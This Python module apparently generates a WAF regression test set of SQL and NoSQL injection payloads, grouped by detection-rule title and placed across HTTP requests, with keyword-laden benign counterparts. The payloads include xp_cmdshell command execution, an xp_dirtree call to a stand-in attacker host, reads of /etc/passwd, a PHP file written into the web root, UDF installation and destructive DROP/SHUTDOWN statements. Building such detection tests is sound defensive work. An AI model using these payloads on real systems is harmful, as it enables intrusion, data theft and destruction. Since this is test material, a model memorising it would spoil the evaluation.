"""Blind set "thirtyeighth": SQL injection as a rule author writes the positive regression tests of a rule,
from the rule's title alone, and sent the way a WAF's regression suite sends them.

The angle: for each of 38 detection titles (libinjection, common database names, sleep/benchmark and their
conditional forms, MSSQL code execution, integer overflow values, conditional injection, charset switch and
MSSQL DoS, MATCH AGAINST / MERGE / EXECUTE IMMEDIATE, basic injection, pg_sleep / WAITFOR / SHUTDOWN,
MongoDB operators, stored procedures, UDF and data manipulation, concatenation and SQL file reads, MySQL
in-line comments, injection testing, operators, tautologies, authentication bypasses, comment and space
obfuscation, chained queries, char() injection, probings, ALTER / UNION, special character runs, comment
sequences, hex encoding, ticks and backticks, split-query bypass, query termination, JSON operators and
scientific notation) the canonical attack the title names, then the variants a good rule with that title must
still catch: other keywords of the family, other quoting, casing, whitespace and comment substitutes. `sub` is
a slug of the title; the one family is "sqli".

Placements: each payload goes to three of twelve places, rotating (query value, form field, JSON field, cookie,
User-Agent, Referer, another header, query parameter name, XML body, multipart field, multipart filename, URL
path), and about half the requests go where a regression suite sends them: paths that are not our routes
(`/`, `/index.php`, `/get`, `/post`, `/search`, `/api/v1/items`, `/cgi-bin/test.cgi`) with arbitrary
parameter names. The benign half carries the same words innocently: Slack messages from developers (also saved
as profile bios), documentation links, prose, names, addresses and searches.

Authorship and independence: every payload and text was written for this set from general knowledge of SQL
injection and from the detection titles above, without reading the repository's WAF rules, any ruleset's rule
text or its regression tests, other generators' lists or public payload lists. Measured once on the unchanged
code; never changed after seeing what the WAF blocks. Deterministic: no clock, no randomness.
"""

from __future__ import annotations

import urllib.parse
from collections.abc import Iterator
from typing import Any
from xml.sax.saxutils import escape

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import chat_and_bio, links_and_prose, prose_request
from .records import print_records

NAME = "thirtyeighth"

TITLES: dict[str, list[str]] = {
    "libinjection": [
        "1' or '1'='1",
        "1) union select null,version()--",
        "-1 UNION ALL SELECT table_name FROM information_schema.tables",
        "' AND 1=CONVERT(int,@@version)--",
        "1 AND (SELECT 1 FROM dual)=1",
        "x' UNION SELECT username, pass FROM accounts WHERE 'a'='a",
        "\" or \"\"=\"",
        "1;SELECT pg_sleep(3)",
        "'||(select user from dual)||'",
        "9 uNIoN sELecT 1,2,3-- -",
    ],
    "db-names": [
        "1 union select name from master..sysdatabases",
        "' union select column_name from information_schema.columns--",
        "1 and exists(select * from mysql.user)",
        "1 union select tablename from pg_catalog.pg_tables",
        "' UNION SELECT sql FROM sqlite_master--",
        "1 union select banner from v$version",
        "' union select name from sys.objects where type='U'--",
        "1 UNION SELECT 1,table_name FROM all_tables",
        "' and (select count(*) from msysobjects)>0--",
        "1 union select schema_name from INFORMATION_SCHEMA.SCHEMATA",
        "1 union select 1 from sysibm.sysdummy1",
        "1 and 1=(select top 1 name from msdb..sysjobs)",
    ],
    "sleep-benchmark": [
        "1 and sleep(5)",
        "1' AND SLEEP(10)#",
        "1 or benchmark(10000000,md5(1))",
        "' OR BENCHMARK(5000000,SHA1('a'))-- ",
        "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)",
        "1 and sleep/**/(3)",
        "1'xor(if(now()=sysdate(),sleep(7),0))or'",
        "1 and SlEeP (4)",
        "1;select benchmark(1e7,rand())",
        "(select sleep(2))",
    ],
    "conditional-sleep": [
        "1 AND IF(1=1,SLEEP(5),0)",
        "' and if(substring(user(),1,1)='r',sleep(3),1)-- -",
        "1 or if(ascii(mid(database(),1,1))>100,benchmark(5000000,md5(2)),0)",
        "1 and IF(length(version())>5,sleep(4),0)",
        "1 AND CASE WHEN (1=1) THEN SLEEP(3) ELSE 0 END",
        "'; IF (SELECT COUNT(*) FROM users)>0 WAITFOR DELAY '0:0:5'--",
        "1 and (select case when (2>1) then pg_sleep(5) else pg_sleep(0) end) is null",
        "1 and elt(1=1,sleep(3))",
        "1 RLIKE (SELECT (CASE WHEN (4=4) THEN SLEEP(2) ELSE 0x28 END))",
    ],
    "mssql-exec": [
        "'; exec master..xp_cmdshell 'whoami'--",
        "1;EXEC xp_cmdshell('dir c:\\')",
        "; exec sp_configure 'show advanced options',1; reconfigure--",
        "'; EXEC master.dbo.xp_regread 'HKEY_LOCAL_MACHINE','SOFTWARE\\Microsoft','x'--",
        "1; exec sp_executesql N'select 1'",
        "'; declare @s varchar(99); set @s='dir'; exec xp_cmdshell @s--",
        "1 union select * from openrowset('SQLOLEDB','srv';'sa';'x','select 1')",
        "; EXEC sp_addlogin 'eve','Pa55w0rd'--",
        "'; exec master..xp_dirtree '\\\\attacker.example\\s'--",
        "1;exec sp_oacreate 'wscript.shell',@o out",
        "'; EXEC xp_servicecontrol 'start','schedule'--",
    ],
    "integer-overflow": [
        "2147483648",
        "-2147483649",
        "4294967296",
        "9223372036854775808",
        "0x100000000",
        "3.0.00738585072007e-308",
        "2.2250738585072011e-308",
        "18446744073709551616",
        "-9223372036854775809",
        "0x7fffffffffffffff",
    ],
    "conditional": [
        "1 AND 1=IF(2>1,1,0)",
        "' OR (CASE WHEN 1=1 THEN 1 ELSE 0 END)=1--",
        "1 and ifnull(ascii(substr(user(),1,1)),0)>64",
        "x' and (select case when substr(pass,1,1)='a' then 1 else 1/0 end from users where rownum=1)=1--",
        "1 AND NULLIF(1,1) IS NULL",
        "1 or decode(1,1,1,0)=1",
        "1 and iif(1=1,1,0)=1",
        "' AND COALESCE(NULL,user)='root",
        "1 AND (SELECT CASE WHEN (SUBSTRING(@@version,1,1)='5') THEN 1 ELSE 2 END)=1",
        "' and if(1=1,'a','b')='a",
    ],
    "charset-dos": [
        "1; SET NAMES 'gbk'",
        "'; alter database shop charset=latin1 --",
        "x' ; set character_set_client = big5 --",
        "1 union select convert(user() using latin1)",
        "' and _utf8'a' collate utf8_bin='a",
        "'; WHILE 1=1 BEGIN SELECT 1 END--",
        "; waitfor time '23:59:59'--",
        "1;DECLARE @i int; WHILE @i<1 SELECT @i--",
        "1 union select char(65) collate latin1_general_ci",
        "'; SET CHARACTER SET sjis; --",
    ],
    "match-merge-execute": [
        "1 AND MATCH(title) AGAINST('+admin' IN BOOLEAN MODE)",
        "') or match(body) against('x*' in boolean mode)#",
        "'; MERGE INTO users u USING dual ON (1=1) WHEN MATCHED THEN UPDATE SET role='admin'--",
        "x' || (EXECUTE IMMEDIATE 'select 1 from dual') || '",
        "'; begin execute immediate 'grant dba to scott'; end;--",
        "'; EXECUTE IMMEDIATE 'DROP TABLE logs';--",
        "1 union select match(a) against ('b') from t",
        "1; merge into accounts using (select 1 id from dual) s on (1=1) when not matched then insert values(1)",
        "'; execute immediate 'alter user system identified by x'--",
    ],
    "basic-common": [
        "1' or 1=1--",
        "' union select @@version --",
        "1 and 1=2 union select 1,2,3",
        "';select * from users;--",
        "1 or 'x'='x'",
        "') or ('a'='a",
        "1' and substring(version(),1,1)='5",
        "' having 1=1--",
        "1 group by 1,2,3--",
        "' order by 10-- -",
    ],
    "pgsleep-waitfor-shutdown": [
        "1;select pg_sleep(10)--",
        "' || pg_sleep(5) --",
        "1 and 1=(select 1 from pg_sleep(3))",
        "'; WAITFOR DELAY '00:00:10'--",
        "1);waitfor delay '0:0:7'--",
        "'; shutdown --",
        "1; SHUTDOWN WITH NOWAIT;--",
        "1 waitfor  delay '0:0:5'",
        "'; select pg_sleep_for('5 seconds')--",
        "'; waitfor time '12:00'--",
    ],
    "mongodb": [
        "{\"$ne\": null}",
        "{\"$gt\": \"\"}",
        "'; return true; var x='",
        "{\"$where\": \"sleep(5000)\"}",
        "[$regex]=^a",
        "{\"$or\":[{},{\"a\":\"a\"}]}",
        "' || this.role == 'admin' || '",
        "true, $where: '1 == 1'",
        "{\"username\":{\"$in\":[\"admin\"]}}",
        "login[$ne]=x",
        "db.users.find({})",
        "'; while(true){} var y='",
    ],
    "stored-proc": [
        "1; create or replace function f() returns void as $$ begin perform pg_sleep(1); end $$ language plpgsql;--",
        "'; DROP PROCEDURE IF EXISTS p; --",
        "1; CALL get_all_users()--",
        "'; CREATE PROCEDURE p() BEGIN SELECT 1; END--",
        "1; DO $$ BEGIN RAISE NOTICE 'x'; END $$;",
        "1; SELECT proname FROM pg_proc",
        "'; create function shell(text) returns int as '/tmp/x.so','sh' language c strict--",
        "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
        "'; CREATE FUNCTION f() RETURNS INT RETURN 1--",
        "' union select routine_name from information_schema.routines--",
    ],
    "udf-manipulation": [
        "' union select 0x7f454c46 into dumpfile '/usr/lib/mysql/plugin/udf.so'--",
        "1; CREATE FUNCTION do_system RETURNS INTEGER SONAME 'udf.so'",
        "'; insert into users(name,role) values('eve','admin')--",
        "1; update users set role='admin' where id=1--",
        "'; delete from sessions--",
        "1; drop table users--",
        "'; truncate table audit_log;--",
        "' union select 1 into outfile '/var/www/html/s.php'--",
        "1; load data infile '/etc/passwd' into table t",
        "'; ALTER TABLE users ADD is_admin int--",
        "1; replace into config values('debug','1')",
    ],
    "concat-sqllfi": [
        "' union select load_file('/etc/passwd')--",
        "1 and 1=0 union select load_file(0x2f6574632f706173737764)",
        "'||'abc'||'",
        "' + (select top 1 name from sysobjects) + '",
        "1 union select concat(user,0x3a,pass) from users",
        "x'+char(39)+'",
        "' || (SELECT pg_read_file('/etc/passwd')) || '",
        "1 union select concat_ws(0x3a,version(),database())",
        "' union select group_concat(table_name) from information_schema.tables--",
        "'||utl_inaddr.get_host_name((select user from dual))||'",
        "1 union select pg_ls_dir('.')",
    ],
    "inline-comment": [
        "1 /*!UNION*/ /*!SELECT*/ 1,2",
        "1/*!50000union*/select 1",
        "'/*!or*/1=1-- ",
        "1 /*! and */ 1=1",
        "/*!32302 1/0, */ 1",
        "1/*!12345UnIoN*//*!12345sElEcT*/user()",
        "admin'/*!*/--",
        "1/*!00000and*/2>1",
        "/*!SELECT*/ @@version",
    ],
    "injection-testing": [
        "'",
        "\"",
        "1'",
        "1\"",
        "')",
        "'\"",
        "';",
        "1'--",
        "\\'",
        "%27",
    ],
    "sql-operator": [
        "1 SOUNDS LIKE 1",
        "x' RLIKE '.*",
        "1 and 'a' REGEXP '^[a-z]'",
        "' or username like '%adm%'--",
        "1 and 1 between 0 and 2",
        "1 != 2 or 1 <=> 1",
        "1 || 1",
        "'a' is not null or '",
        "1 and 1 not in (2,3)",
        "x' xor 1 -- ",
        "1 div 0",
        "' or 2 sounds like 2#",
    ],
    "tautology": [
        "1 or 1=1",
        "' or 'a'='a",
        "x' OR 2>1--",
        "\" or 3=3 --",
        "1 || 2=2",
        "' or 'abc' like 'a%'--",
        "1 or true",
        "' or 1 -- -",
        "1) or (1)=(1",
        "') or 'x'<>'y'--",
        "1 and 7=7",
        "' OR 'z' BETWEEN 'y' AND 'zz",
    ],
    "sqli-generic": [
        "1 union select user(),database()",
        "select * from users where id = 1",
        "1 and ascii(substr((select pass from users limit 1),1,1))>1",
        "1 and extractvalue(1,concat(0x7e,(select user())))",
        "1 and updatexml(1,concat(0x7e,version()),1)",
        "1 AND ORD(MID((SELECT IFNULL(CAST(username AS CHAR),0x20) FROM users),1,1))>64",
        "1 and char_length(database())>3",
        "1 and cast((select version()) as int)=1",
        "x' and exp(~(select * from (select user())a))--",
        "1 and row(1,1)>(select count(*),concat(version(),floor(rand(0)*2))x"
        " from information_schema.tables group by x)",
    ],
    "auth-bypass-1": [
        "admin'--",
        "admin' #",
        "admin'/*",
        "' or 1=1 limit 1 -- -",
        "admin\" --",
        "' or ''='",
        "'=' 'or'",
        "admin') -- ",
        "root'or'1",
        "1'or'1'='1",
    ],
    "comment-space-backtick": [
        "1/**/union/**/select/**/1,2",
        "'/**/or/**/1=1#",
        "1\nunion\nselect\n1",
        "1\tunion\tselect\tnull",
        "1 and `id` from users where `a``b`=1",
        "select`user`from`mysql`.`user`",
        "1`union select 1",
        "'/*x*/or/*y*/'1'='1",
        "1+union+all+select+1",
        "1 union#x\nselect 1",
        "1 union-- x\nselect 2",
    ],
    "chained-1": [
        "1; select * from users",
        "'; drop table users; --",
        "1); insert into log values(1);--",
        "x'; update accounts set balance=1e9 where 'a'='a",
        "1;declare @x int;select @x",
        "'; exec('sel'+'ect 1')--",
        "0; DELETE FROM orders",
        "1'; create table x(y int); --",
        "a'; shutdown; --",
    ],
    "auth-bypass-2": [
        "' or 'x'='x' --",
        "\" or \"1\"=\"1",
        "') or ('1'='1'--",
        "admin' or '1'='1'#",
        "' or 1 in (1)--",
        "'or''='",
        "x' or name like '%",
        "' or username is not null or 'a'='",
        "1' or '1' = '1' /*",
    ],
    "comments-char": [
        "char(0x61,0x64,0x6d,0x69,0x6e)",
        "1 union select char(114,111,111,116)",
        "' + chr(65) + '",
        "1 union select concat(char(39),user(),char(39))",
        "1 and 1=1 -- ",
        "x' or 1#",
        "1 or char(49)=char(49)",
        "'+nchar(65)+nchar(66)+'",
        "1 and (select ascii(char(65)))=65",
        "1 /*comment*/ and /*c*/ 2=2",
    ],
    "chained-2": [
        "1; exec sp_who",
        "'; select @@servername; --",
        "1;select version();",
        "x'); select load_file('/etc/hosts'); --",
        "'; begin declare @a varchar(8000) end--",
        "1; COPY (select '') TO PROGRAM 'id'",
        "'; select 1 where 1=1; --",
        "1; set @a=1; select @a",
        "\"; select user;--",
    ],
    "classic-probing-1": [
        "1 and 1=1",
        "1 and 1=2",
        "1' and '1'='1",
        "1' and '1'='2",
        "1 order by 1--",
        "1 order by 100--",
        "' group by columnnames having 1=1--",
        "1 and user>0",
        "1 and @@version>0",
        "1' and 'a'<'b",
    ],
    "auth-bypass-3": [
        "' or true--",
        "' or 1<2#",
        "'||1#",
        "' like '%",
        "admin' and 1=1#",
        "x' or 1 like 1",
        "') or true--",
        "' OR '1'!='2",
        "'=0#",
        "admin'||'",
    ],
    "alter-union": [
        "1 union select 1",
        "' UNION ALL SELECT NULL--",
        "1 uNiOn sElEcT 1,2",
        "'; alter table users drop column email--",
        "1; ALTER USER root IDENTIFIED BY 'x'",
        "-1 union distinct select 1",
        "1) union (select 2",
        "1 union(select(1))",
        "'; alter login sa with password='x'--",
        "1 union select * from (select 1)a",
    ],
    "classic-probing-2": [
        "1 and (select count(*) from users)>0",
        "' and (select 1)=1--",
        "1 and exists(select 1)",
        "1 and 1 in (select 1)",
        "' and ascii(substring((select database()),1,1))>90--",
        "1 and (select top 1 name from sysobjects)>0",
        "1' and length(user())>1#",
        "x' and substr(version(),1,1)='8",
        "1 and (select 'a')='a'",
    ],
    "special-chars-exceeded": [
        "')));--'/**/#",
        "~!@#$%^&*()_+{}|:<>?",
        "'\"`;)(--#/*",
        "((((((((((((1))))))))))))",
        "'''''''''''''''",
        "1')--;#/*!*/&|~^",
        ";;;;;;;;;;;;;;",
        "'||'||'||'||'||'||'",
        "\"\"\"\"''''````;;;;",
    ],
    "comment-sequence": [
        "admin'--",
        "1 -- -",
        "x'#",
        "1/*",
        "*/union/*",
        "1;--",
        "' /* c */",
        "1 --+",
        "abc' -- ",
        "1)#",
    ],
    "hex-encoding": [
        "0x61646d696e",
        "1 union select 0x3c3f706870",
        "' or name=0x726f6f74--",
        "X'61646d696e'",
        "1 union select unhex('726f6f74')",
        "1 and 0x31=0x31",
        "1 union select 0x2f6574632f706173737764",
        "' and user=0x726f6f74 -- -",
        "0x27206f722031",
    ],
    "ticks-backticks": [
        "`",
        "1`",
        "'`",
        "select`version`()",
        "`users`.`name`",
        "1` or 1=1#",
        "ad`min'#",
        "` union select 1 -- ",
        "x' or `a`=`a",
        "`id`=1 or 1",
        "1'`",
        "a`;drop table t;`",
    ],
    "split-query": [
        "admin';",
        "foo';--",
        "x'/*",
        "*/ or 1=1 -- ",
        "';#",
        "nobody' ;--",
        "admin'; --",
        "\";--",
        "*/'",
    ],
    "query-termination": [
        "';",
        "1;",
        "');",
        "\";",
        "1) ;",
        "x';drop",
        "'; --",
        "1;#",
        "');select",
        "abc' ;",
    ],
    "json-operators": [
        "1 and json_extract('{\"a\":1}','$.a')=1",
        "' or '{\"x\":2}' -> '$.x' = 2--",
        "1 and '{\"a\":1}'::jsonb @> '{\"a\":1}'",
        "' OR json_keys('{\"a\":1}') IS NOT NULL--",
        "1 and json_array_length('[1,2]')=2",
        "' or '[1]'::json->>0='1",
        "1 union select json_object('u',user())",
        "' or jsonb_exists('{\"a\":1}','a')--",
        "1 and json_valid('{}')",
        "' AND JSON_CONTAINS('[1]','1')--",
        "1 and '{\"b\":1}'::jsonb ? 'b'",
        "1 union select key from json_each('{\"a\":1}')",
    ],
    "scientific-notation": [
        "1.e(ascii",
        "0.1e1union select 1",
        "1.e(1)",
        "1e1union select user()",
        "' 1.e(')",
        "1.e1or 1=1",
        "2.e3and 1=1",
        "0e1union(select 1)",
        "1.e(`a`)",
        "1e0union select 2",
    ],
}

PLACES = ["query", "form", "json", "cookie", "user-agent", "referer", "header", "param-name", "xml",
          "multipart-field", "multipart-filename", "path"]
SUITE_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
SUITE_NAMES = ["id", "var", "test", "file", "page", "q", "x", "name", "data", "cmd", "url", "foo"]
OUR_NAMES = ["q", "name", "email", "search", "filter", "sort"]
BOUNDARY = "----thirtyeighthBoundary7MA4YWxkTrZu0gW"


def _hv(value: str) -> str:
    """A header value: no CR, LF or NUL (nginx refuses them before the WAF)."""
    return value.replace("\r", " ").replace("\n", " ").replace("\0", " ")


def _with_headers(rec: dict[str, Any], **extra: str) -> dict[str, Any]:
    return {**rec, "headers": {**rec["headers"], **extra}}


def _multipart(uri: str, name: str, value: str, filename: bool) -> dict[str, Any]:
    if filename:
        fname = _hv(value).replace('"', "%22")
        part = (f'Content-Disposition: form-data; name="upload"; filename="{fname}"\r\n'
                "Content-Type: text/plain\r\n\r\nhello\r\n")
    else:
        part = f'Content-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'
    body = (f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"csrf_token\"\r\n\r\nt0k3n\r\n"
            f"--{BOUNDARY}\r\n{part}--{BOUNDARY}--\r\n")
    return {"method": "POST", "uri": uri, "body": body,
            "headers": {"User-Agent": UA, "Accept": "text/html",
                        "Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}}


def _xml(uri: str, name: str, value: str) -> dict[str, Any]:
    body = f'<?xml version="1.0" encoding="UTF-8"?>\n<request><{name}>{escape(value)}</{name}></request>'
    return {"method": "POST", "uri": uri, "body": body,
            "headers": {"User-Agent": UA, "Accept": "application/xml", "Content-Type": "text/xml"}}


def _cookie_value(value: str) -> str:
    return urllib.parse.quote(value, safe="'()*!=/:@$,")


def ours(place: str, name: str, value: str) -> dict[str, Any]:
    """`value` in one place of a request to our own routes."""
    if place == "query":
        return _get(_query("/api/users", [(name, value), ("page", "1")]))
    if place == "form":
        return _form("/admin/users/search", [("csrf_token", "t0k3n"), (name, value)])
    if place == "json":
        return _json("/api/users", {"email": "a@example.org", name: value})
    if place == "cookie":
        return _with_headers(_get("/api/users?page=1"), Cookie="session=abc123; prefs=" + _cookie_value(value))
    if place == "user-agent":
        return _with_headers(_get("/api/users?page=1"), **{"User-Agent": _hv(value)})
    if place == "referer":
        return _with_headers(_get("/api/users?page=1"), Referer=_hv("https://app.example.com/users?q=" + value))
    if place == "header":
        return _with_headers(_get("/api/users?page=1"), **{"X-Api-Version": _hv(value)})
    if place == "param-name":
        return _get("/api/users?" + urllib.parse.quote(value, safe="") + "=1&page=1")
    if place == "xml":
        return _xml("/api/users", name, value)
    if place == "multipart-field":
        return _multipart("/admin/users/search", name, value, False)
    if place == "multipart-filename":
        return _multipart("/admin/users/search", name, value, True)
    return _get("/api/users/" + urllib.parse.quote(value, safe=""))


def suite(place: str, name: str, value: str, i: int) -> dict[str, Any]:
    """`value` in one place of a request as a WAF's regression suite sends it: paths that are not our routes."""
    path = SUITE_PATHS[i % len(SUITE_PATHS)]
    if place == "query":
        return _get(path + "?" + name + "=" + urllib.parse.quote(value, safe="'()*!,:/@$"))
    if place == "form":
        return {**_form(path, [(name, value)]), "method": "POST"}
    if place == "json":
        return _json(path, {name: value})
    if place == "cookie":
        return _with_headers(_get(path), Cookie=f"{name}=" + _cookie_value(value))
    if place == "user-agent":
        return _with_headers(_get(path), **{"User-Agent": _hv(value)})
    if place == "referer":
        return _with_headers(_get(path), Referer=_hv(value))
    if place == "header":
        return _with_headers(_get(path), **{"X-Test-Header": _hv(value)})
    if place == "param-name":
        return _get(path + "?" + urllib.parse.quote(value, safe="") + "=" + name)
    if place == "xml":
        return _xml(path, name, value)
    if place == "multipart-field":
        return _multipart(path, name, value, False)
    if place == "multipart-filename":
        return _multipart(path, name, value, True)
    return _get("/search/" + urllib.parse.quote(value, safe="") if i % 2 else
                "/index.php/" + urllib.parse.quote(value, safe=""))


def attacks() -> Iterator[dict[str, Any]]:
    counters: dict[str, int] = {}
    i = 0
    for sub, payloads in TITLES.items():
        for payload in payloads:
            for k in range(3):
                place = PLACES[(i + 4 * k) % len(PLACES)]
                if (i + k) % 2 == 0:
                    rec = suite(place, SUITE_NAMES[(i + k) % len(SUITE_NAMES)], payload, i + k)
                    where = "suite"
                else:
                    rec = ours(place, OUR_NAMES[(i + k) % len(OUR_NAMES)], payload)
                    where = "ours"
                counters[sub] = counters.get(sub, 0) + 1
                yield {**rec, "id": f"{NAME}-sqli-{sub}-{counters[sub]:04d}", "category": "sqli", "sub": sub,
                       "placement": f"{where}:{place}", "payload": payload}
            i += 1


# Benign: developers talking about the same words in Slack (also saved as bios).
SLACK_TEXTS = [
    "the union of both lists is what we want, then select the newest row",
    "can someone review my PR? it adds ORDER BY created_at to the users query",
    "don't use SELECT * in new code please, list the columns",
    "the nightly job does a MERGE into the warehouse, takes about 4 minutes",
    "sleep(5) in the retry loop is too long, make it exponential backoff",
    "benchmark results: the new index makes the search 3x faster",
    "the MATCH ... AGAINST full-text search in MySQL is fine for the help centre",
    "we should drop the legacy table after the migration, not before",
    "ALTER TABLE on 40M rows will lock it; use gh-ost",
    "shutdown of the old db host is scheduled for Saturday 02:00 UTC",
    "WAITFOR in the SQL Server proc is why the report hangs, I think",
    "pg_sleep shows up in the slow log because of the health check, ignore it",
    "the mongo query uses $in with a list of ids, capped at 500",
    "stored procedures are gone from the billing service since v3",
    "the UDF for geodistance was replaced by ST_Distance",
    "information_schema queries are slow on big clusters, cache them",
    "the char limit on bios is 500, the hex colour field takes #a1b2c3",
    "json_extract on the settings column works on MySQL 8 only",
    "use jsonb operators like @> with a GIN index, much faster",
    "backticks around column names are MySQL only; use double quotes in Postgres",
    "the auth bypass bug in the report was a false alarm, the login checks the hash",
    "if the query times out we fall back to the cache, otherwise we return rows",
    "execute immediate in the Oracle package builds the partition name",
    "our DBA says xp_cmdshell is disabled on every SQL Server instance",
    "I'll update the select box options after lunch",
    "insert the new rows into staging first, then swap",
    "the delete button should ask for confirmation",
    "anyone know why `npm run db:migrate` hangs? it's stuck at the lock",
    "1 or 2 people need access to the analytics replica, who else?",
    "we went from 2147483647 to bigint for the ids, good call",
    "the float parse of 1e308 overflows in the old client",
    "the integer overflow in the counter is fixed in 2.4.1",
    "the union rep is visiting the office on Tuesday",
    "let's have a group by-the-numbers review on Friday",
    "the sqlite file for tests lives in tmp/test.db",
    "master branch is renamed to main, update your remotes",
    "the sys admin on call is Priya this week",
    "the charset of the export is utf8mb4, not latin1",
    "we set names on the connection to utf8mb4 at startup",
    "the comment thread on the design doc is long, summary at the top",
    "drop me a line when the deploy is done",
    "the match against Arsenal is on Sunday, who's watching?",
    "between you and me, the new logo is better",
    "the cast of the show was great; the ending not so much",
    "truncate the log message at 200 characters in the UI",
    "the procedure for expense claims changed, see the wiki",
    "the benchmark of the new laptop is in the sheet",
    "sleep well, see you tomorrow!",
    "the execute button runs the report for the selected month",
    "the admin panel now shows the last login per user",
    "O'Brien and D'Angelo joined the team today, say hi",
    "the hex dump of the packet is in the ticket",
    "the like count is off by one on the profile page",
    "is null handling different in the new ORM? the tests say yes",
    "the where clause needs an index on tenant_id",
    "the version string is 5.7.44-log on the replica",
    "select the right region before you create the bucket",
    "the concat of first and last name goes into display_name",
    "the rows between 10 and 20 are the second page",
    "the delay on the tram this morning was 20 minutes",
]
PUBLIC_URLS = [
    "https://dev.mysql.com/doc/refman/8.0/en/union.html",
    "https://dev.mysql.com/doc/refman/8.0/en/fulltext-search.html",
    "https://www.postgresql.org/docs/current/functions-json.html",
    "https://www.postgresql.org/docs/current/functions-datetime.html#FUNCTIONS-DATETIME-DELAY",
    "https://learn.microsoft.com/en-us/sql/t-sql/language-elements/waitfor-transact-sql",
    "https://learn.microsoft.com/en-us/sql/t-sql/statements/merge-transact-sql",
    "https://docs.oracle.com/en/database/oracle/oracle-database/19/lnpls/EXECUTE-IMMEDIATE-statement.html",
    "https://www.mongodb.com/docs/manual/reference/operator/query/ne/",
    "https://sqlite.org/json1.html",
    "https://en.wikipedia.org/wiki/SQL_injection",
    "https://owasp.org/www-community/attacks/SQL_Injection",
    "https://example.com/search?q=select+union&page=2",
    "https://shop.example.com/products?sort=price&order=desc",
    "https://github.com/acme/api/blob/main/db/migrations/0042_alter_users.sql",
    "https://www.example.org/blog/2024/05/benchmark-sleep-modes",
    "https://maps.example.com/place/Union+Square,+San+Francisco",
    "https://docs.example.com/api/v2/items?filter=status%3Dactive",
    "https://news.example.co.uk/sport/match-report-united-v-city",
    "https://cdn.example.net/img/hex-pattern.png?v=7",
    "https://example.com/users/o'brien",
]
PROSE = [
    "Union Square, 333 Post St, San Francisco",
    "12 Select Lane, Leeds LS1 4AB",
    "Flat 3, 7 Merge Road, Bristol",
    "Ms. Mary O'Connor, 1 Drop Street",
    "order by date, newest first please",
    "select all the invoices from last year",
    "the union between the two companies was announced",
    "match against the old records and delete duplicates",
    "sleep study results for patient 1042",
    "benchmark report 2024 Q3",
    "where is my order? it was due on the 5th",
    "alter the dress by 2 cm at the waist",
    "execute the contract by Friday",
    "shutdown procedure for the lab equipment",
    "wait for delay notice from the airline",
    "1 or 2 tickets for the Saturday show",
    "Tom & Jerry's Diner -- best pancakes in town",
    "the char-grilled steak with a side of fries",
    "hex key set, 9 pieces",
    "update my address to 4 Church Lane",
    "insert coin to continue",
    "Rock 'n' Roll Hall of Fame",
    "D'Arcy & Sons, est. 1921",
    "a 1=1 comparison is always true, said the teacher",
    "between 10 and 20 people are expected",
    "is it true that the match is at 3?",
    "Casey's \"Grand\" opening -- 50% off",
    "Q: where can I find the users table docs?",
    "having fun with SQL at the evening class",
    "the cast list for the school play",
    "group by team for the quiz night",
    "no limit on the number of guests",
    "Drop-off at the back entrance, 9am",
    "concat the two PDFs into one",
    "Hexham, Northumberland NE46",
    "Mongo the dog loves long walks",
    "the json file export option in settings",
    "null and void, said the lawyer",
    "version 2.0 -- select your plan",
    "Mr. O'Neil's order #4521",
    "sleep mode on the TV turns off after 2 hours",
    "I'd like to merge my two accounts",
    "execute immediately: payroll run for December",
    "delete my account and all my data please",
    "waitlist for the union meeting",
    "truncated text in the email subject",
    "convert 5 km to miles",
    "character set for the sign: A-Z only",
    "the 'like' button doesn't work on mobile",
    "declare the income on line 12",
]
SEARCHES = [
    "union square", "select committee", "sleep apnea", "benchmark", "merge pdf", "match of the day",
    "alter ego", "shutdown", "o'brien", "d'angelo", "drop shipping", "insert key", "update drivers",
    "delete history", "execute", "procedure", "hex", "char", "mongodb atlas", "json viewer",
    "1 or 2", "between", "like", "null", "order by", "group by", "having", "where", "exec summary",
    "declare", "waitfor", "pg dump", "version", "concat", "cast iron pan", "truncate", "collate pages",
    "Mary-Kate O'Hara", "Jean-Luc D'Souza", "St. John's Wood",
]


def benign() -> Iterator[dict[str, Any]]:
    prefix = f"{NAME}-benign"
    n = yield from chat_and_bio(SLACK_TEXTS, prefix)
    n = yield from links_and_prose(PUBLIC_URLS, PROSE, prefix, n)
    for text in SEARCHES:
        n += 1
        yield {**_get(_query("/api/users", [("q", text), ("page", "1")])), "id": f"{prefix}-search-{n:04d}",
               "category": "benign", "placement": "query"}
        n += 1
        yield {**_json("/api/users", {"name": text, "email": "a@example.org"}), "id": f"{prefix}-name-{n:04d}",
               "category": "benign", "placement": "json"}
        n += 1
        yield {**prose_request(text), "id": f"{prefix}-adminsearch-{n:04d}", "category": "benign",
               "placement": "form"}


if __name__ == "__main__":
    print_records(attacks(), benign())
